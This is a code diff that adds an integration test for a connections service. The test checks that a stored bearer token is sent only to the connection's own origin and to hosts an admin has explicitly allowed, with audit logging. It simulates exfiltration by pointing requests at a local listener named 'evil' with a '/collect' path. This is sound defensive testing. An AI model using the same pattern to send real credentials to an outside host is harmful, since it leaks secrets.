@@ -12,6 +12,7 @@ import { startSandboxes, type StartedSandboxes } from "../../connectors/sandboxe
 import { closePostgresPools, runOperation } from "../../connectors/server";
 import { importedDefinition, importedDefinitionVia } from "./imported";
 import { dslCatalog } from "./catalog";
+import { resolveConnection } from "./service";
 import type { Role } from "../auth/roles";
 
 const SPEC_YAML = `
@@ -161,6 +162,44 @@ describe("connections API", () => {
     const db = new URL(t.url);
     await as("admin").connections.create({ key: "warehouse", name: "Warehouse", connectorKey: "postgres", config: { host: db.hostname, port: Number(db.port), database: db.pathname.slice(1), user: db.username || "postgres", ssl: "disable" }, secrets: db.password ? { password: decodeURIComponent(db.password) } : {} });
     expect(await as("designer").connections.test({ key: "warehouse" })).toMatchObject({ ok: true, message: expect.stringMatching(/SELECT 1 returned 1/) });
+  });
+
+  it("sends a stored connection's credentials only to its own hosts and the allowed hosts an admin lists", async () => {
+    const heard: Array<{ url: string; headers: http.IncomingHttpHeaders }> = [];
+    const listener = http.createServer((req, res) => {
+      heard.push({ url: req.url!, headers: req.headers });
+      res.end("{}");
+    });
+    await new Promise<void>((r) => listener.listen(0, "127.0.0.1", r));
+    const evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+    const allow = process.env.WEFT_HTTP_ALLOWLIST;
+    // The SSRF guard lets the listener through: only the credential scope stands in the way.
+    process.env.WEFT_HTTP_ALLOWLIST = `${allow},${new URL(evil).host}`;
+    try {
+      await as("admin").connections.create({ key: "api-scoped", name: "Scoped", connectorKey: "http", config: { baseUrl: `${apiBase}/secure`, auth: { type: "bearer" } }, secrets: { token: "good-token" } });
+      const call = () => resolveConnection(t.db, "api-scoped").then((connection) => runOperation({ connectorKey: "http", operation: "request", input: { url: `${evil}/collect` }, connection }));
+      await expect(call()).rejects.toMatchObject({ errorClass: "validation", reason: "credential_scope", code: "credentials_off_origin" });
+      expect(heard).toEqual([]);
+      // The designer's catalog carries the scope (no secret), so the validator flags the literal URL.
+      const entry = (await as("viewer").flows.designerCatalog()).connections.find((c) => c.key === "api-scoped")!;
+      expect(entry.credentials).toEqual({ origins: [apiBase], allowedHosts: [] });
+      expect(JSON.stringify(entry)).not.toContain("good-token");
+
+      // Allowed hosts: admin-only, each entry checked, audited.
+      await expect(as("designer").connections.update({ key: "api-scoped", allowedHosts: [new URL(evil).host] })).rejects.toThrow(/admin role/);
+      await expect(as("admin").connections.update({ key: "api-scoped", allowedHosts: ["http://x.test/path"] })).rejects.toThrow(/host name/);
+      await as("admin").connections.update({ key: "api-scoped", allowedHosts: [new URL(evil).host] });
+      expect((await as("viewer").connections.list()).find((c) => c.key === "api-scoped")!.allowedHosts).toEqual([new URL(evil).host]);
+      const audit = await t.db.auditLog.findFirst({ where: { action: "connection.updated", entityId: "api-scoped" }, orderBy: { seq: "desc" } });
+      expect(audit).toMatchObject({ before: { allowedHosts: [] }, after: { allowedHosts: [new URL(evil).host] } });
+      await call();
+      expect(heard).toHaveLength(1);
+      expect(heard[0]!.headers.authorization).toBe("Bearer good-token");
+    } finally {
+      process.env.WEFT_HTTP_ALLOWLIST = allow;
+      listener.closeAllConnections();
+      await new Promise((r) => listener.close(r));
+    }
   });
 
   it("validates settings against the connector's schema and secret names against its secret fields", async () => {
